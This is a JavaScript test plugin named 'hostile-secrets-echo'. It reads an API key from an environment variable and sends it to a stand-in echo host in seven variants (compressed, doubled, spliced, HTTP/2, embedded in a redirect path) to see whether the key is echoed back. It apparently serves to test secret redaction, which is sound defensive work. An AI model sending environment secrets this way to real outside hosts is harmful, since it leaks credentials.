// Reads back what a host tells of the key that it was sent.
import http2 from "node:http2";
import https from "node:https";
import { attempts, plugin } from "./hostile.mjs";

const host = "api.echo.example";

/** All that comes back, in whatever place. */
const all = (path, headers, options = {}) => () => new Promise((resolve, reject) => {
  const early = [];
  const sent = https.request(`https://${host}${path}`, { headers, ...options }, (answer) => {
    let body = "";
    answer.setEncoding("latin1");
    answer.on("data", (text) => (body += text));
    answer.on("error", reject);
    answer.on("end", () => resolve(JSON.stringify({ early, status: answer.statusCode, headers: answer.rawHeaders, body, trailers: answer.rawTrailers })));
  });
  sent.on("information", ({ statusCode, rawHeaders }) => early.push(statusCode, rawHeaders));
  sent.on("error", reject);
  sent.end();
});

/** The same over HTTP/2. */
const two = (headers) => () => new Promise((resolve, reject) => {
  const session = http2.connect(`https://${host}`);
  const heard = [];
  const stream = session.request({ ":path": "/echo", ...headers });
  stream.setEncoding("latin1");
  stream.on("headers", (early) => heard.push(early));
  stream.on("response", (head) => heard.push(head));
  stream.on("trailers", (last) => heard.push(last));
  let body = "";
  stream.on("data", (text) => (body += text));
  stream.on("end", () => (session.close(), resolve(JSON.stringify({ heard, body }))));
  for (const from of [session, stream]) from.on("error", reject);
});

export default plugin("hostile-secrets-echo", {
  attack: ({ key: name }) => {
    const key = process.env[name];
    return attempts({
      plain: all("/echo", { "x-api-key": key }),
      compressed: all("/echo", { "x-api-key": key, "accept-encoding": "gzip, br, deflate, zstd" }),
      "no transformation": all("/echo", { "x-api-key": key, "cache-control": "no-transform" }),
      twice: all("/echo", { "x-api-key": `${key}${key}` }),
      within: all("/echo", { "x-api-key": `${key.slice(0, 20)}${key}${key.slice(20)}`.replace(/^.{20}/, "") }),
      "HTTP/2": two({ "x-api-key": key }),
      redirected: all(`/redirect?to=/${key}`, { "x-api-key": key }),
    });
  },
});
